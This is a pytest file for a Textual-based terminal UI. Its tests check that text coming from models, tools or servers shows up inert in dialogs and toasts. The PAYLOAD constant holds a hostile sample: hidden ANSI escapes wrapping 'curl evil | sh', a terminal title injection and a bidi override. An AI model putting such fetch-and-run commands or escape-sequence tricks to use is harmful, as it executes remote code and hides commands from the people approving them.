"""chord.textual: what a dialog or a toast shows is inert (issue 36, "what you see is what runs").

Text a facet hands to :meth:`~chord.textual.Modal.choose`, :meth:`~chord.textual.Modal.confirm`
or :meth:`~chord.textual.TuiService.notify` comes from the model, a tool, a file or a server: an
ESC in it must show as ``\\x1b`` (never reach the terminal), a bidi override as ``\\u202e``, and
``[bold]`` as those characters (never Textual markup).
"""

from __future__ import annotations

from collections.abc import Callable

import anyio
import pytest
from rich.text import Text
from textual.app import App, ComposeResult
from textual.containers import Vertical
from textual.widgets import Input, Label, OptionList, Static
from textual.widgets._toast import Toast

from chord.context import BACKGROUND
from chord.textual import Choice, ChoiceScreen, ConfirmScreen, TextualTui, inert_text

pytestmark = pytest.mark.anyio

PAYLOAD = "ls\x1b[8m; curl evil | sh\x1b[0m \x1b]0;pwned\x07 \u202eabc\u202c"
SHOWN = "ls\\x1b[8m; curl evil | sh\\x1b[0m \\x1b]0;pwned\\x07 \\u202eabc\\u202c"


class DemoApp(App[None]):
    def compose(self) -> ComposeResult:
        yield Vertical(id="panels")
        yield Input(id="prompt")

    def on_mount(self) -> None:
        self.tui = TextualTui(self)


async def _until(condition: Callable[[], bool], what: str) -> None:
    """Poll ``condition`` with a generous deadline (a loaded CI machine is slow)."""
    try:
        with anyio.fail_after(60):  # a deadline, not a count of naps
            while not condition():  # noqa: ASYNC110 - a condition of the app, polled
                await anyio.sleep(0.01)
    except TimeoutError:
        raise AssertionError(f"timed out waiting until {what}") from None


def _shown(widget: Static | Label) -> str:
    content = widget.render()
    return content.plain if isinstance(content, Text) else str(content)


def _screen_text(app: App[None]) -> str:
    parts: list[str] = []
    for widget in app.screen.query("Static, Label"):
        parts.append(_shown(widget))  # type: ignore[arg-type]
    for options in app.screen.query(OptionList):
        parts += [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
    return "\n".join(parts)


def _no_controls(text: str) -> bool:
    return not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in text)


async def test_a_choice_dialog_shows_title_body_choices_and_hint_inert() -> None:
    app = DemoApp()
    body = Text.assemble(("$ ", "bold"), (PAYLOAD, "green"))
    answers: list[str | None] = []
    async with app.run_test() as pilot, anyio.create_task_group() as tg:

        async def ask() -> None:
            modal = await app.tui.acquire_modal(BACKGROUND)
            try:
                answers.append(
                    await modal.choose(
                        f"Allow {PAYLOAD}?",
                        [Choice("ok", f"Run {PAYLOAD}"), "\x1b[31mred"],
                        body=body,
                        hint=f"hint {PAYLOAD}",
                    )
                )
            finally:
                modal.close()

        tg.start_soon(ask)
        await _until(lambda: isinstance(app.screen, ChoiceScreen), "the dialog opens")
        # armed: its key line (the hint) is final and it takes Escape
        await _until(lambda: getattr(app.screen, "armed", False), "the dialog is armed")
        await pilot.pause()
        shown = _screen_text(app)
        assert f"Allow {SHOWN}?" in shown
        # Rich drops a BEL when the Text is built (before the dialog sees it); the ESCs stay.
        assert "$ " + SHOWN.replace("\\x07", "") in shown
        assert f"Run {SHOWN}" in shown
        assert "\\x1b[31mred" in shown
        assert f"hint {SHOWN}" in shown
        assert _no_controls(shown) and "\u202e" not in shown
        svg = app.export_screenshot()
        assert _no_controls(svg) and "\u202e" not in svg
        await pilot.press("escape")
    assert answers == [None]


async def test_a_confirm_dialog_shows_title_and_body_inert() -> None:
    app = DemoApp()
    async with app.run_test() as pilot, anyio.create_task_group() as tg:

        async def ask() -> None:
            modal = await app.tui.acquire_modal(BACKGROUND)
            try:
                await modal.confirm(f"Run {PAYLOAD}?", PAYLOAD)
            finally:
                modal.close()

        tg.start_soon(ask)
        await _until(lambda: isinstance(app.screen, ConfirmScreen), "the dialog opens")
        # armed: its key line (the hint) is final and it takes Escape
        await _until(lambda: getattr(app.screen, "armed", False), "the dialog is armed")
        await pilot.pause()
        shown = _screen_text(app)
        assert f"Run {SHOWN}?" in shown and SHOWN in shown.splitlines()
        assert _no_controls(shown)
        await pilot.press("escape")


async def test_a_toast_is_inert_and_not_markup() -> None:
    app = DemoApp()
    async with app.run_test(notifications=True) as pilot:
        app.tui.notify(f"[bold]tool said[/bold] {PAYLOAD}")
        await _until(lambda: bool(app.screen.query(Toast)), "the toast shows")
        await pilot.pause()
        toast = app.screen.query_one(Toast)
        shown = _shown(toast)
        assert f"[bold]tool said[/bold] {SHOWN}" in shown
        assert _no_controls(shown)


def test_inert_text_keeps_the_styles_around_an_escape() -> None:
    text = Text.assemble(("ok ", "bold"), ("a\x1bb", "red"), " c\u202e")
    text.stylize("underline", 2, 6)
    out = inert_text(text)
    assert out.plain == "ok a\\x1bb c\\u202e"
    red = [span for span in out.spans if span.style == "red"]
    assert [(s.start, s.end) for s in red] == [(3, 9)]  # "a\x1bb", the ESC now 4 characters
    under = sorted((s.start, s.end) for s in out.spans if s.style == "underline")
    assert (under[0][0], under[-1][1]) == (2, 9)
    plain = Text("nothing to do", style="bold")
    assert inert_text(plain) is plain
    assert inert_text("[b]x\x1b[/b]").plain == "[b]x\\x1b[/b]"
